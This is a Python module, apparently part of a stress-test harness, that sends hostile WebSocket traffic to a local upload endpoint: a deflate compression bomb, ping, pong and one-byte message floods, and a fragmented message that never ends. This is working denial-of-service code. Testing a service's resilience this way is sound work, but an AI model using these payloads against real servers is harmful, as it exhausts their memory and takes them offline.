"""Attacks by WebSocket frames."""

import socket
import zlib

from attack_target import MIB, Target


def compressed_messages(target: Target) -> bool:
    """Send WebSocket messages of 15 MiB that are 15 KiB on the wire."""
    deflate = zlib.compressobj(wbits=-15)
    packed = deflate.compress(b"a" * (15 * MIB)) + deflate.flush(zlib.Z_SYNC_FLUSH)
    return _send_frames(target, _frame(0xC1, packed[:-4]), 22 * MIB)


def pings(target: Target) -> bool:
    return _send_frames(target, _frame(0x89, b"") * 10_000, 200 * MIB)


def pongs(target: Target) -> bool:
    return _send_frames(target, _frame(0x8A, b"") * 10_000, 200 * MIB)


def one_byte_messages(target: Target) -> bool:
    return _send_frames(target, _frame(0x81, b"a") * 10_000, 200 * MIB)


def one_byte_fragments(target: Target) -> bool:
    """Send one message that never ends."""
    return _send_frames(target, _frame(0x00, b"a") * 10_000, 200 * MIB, first=_frame(0x01, b"a"))


def _send_frames(target: Target, piece: bytes, most: int, *, first: bytes = b"") -> bool:
    """Send on four WebSockets in turn, without reading."""
    handshake = (
        f"GET /api/file/upload/ws/{target.prepared.rpartition('/')[2]} HTTP/1.1\r\n"
        f"Host: localhost:{target.port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        "Sec-WebSocket-Extensions: permessage-deflate; client_no_context_takeover\r\n\r\n"
    ).encode()
    connections = [target.connect() for _ in range(4)]
    for connection in connections:
        target.send(connection, handshake)
        connection.recv(12, socket.MSG_WAITALL)
        target.send(connection, first)
    left = list(connections)
    while left and target.sent < most:
        left = [each for each in left if target.send(each, piece)]
    return target.ended(connections)


def _frame(first: int, payload: bytes) -> bytes:
    """Return a masked frame (RFC 6455, 5.2) with a mask of zeros."""
    size = len(payload)
    length = bytes([0x80 | size]) if size < 126 else b"\xfe" + size.to_bytes(2, "big")
    return bytes([first]) + length + bytes(4) + payload
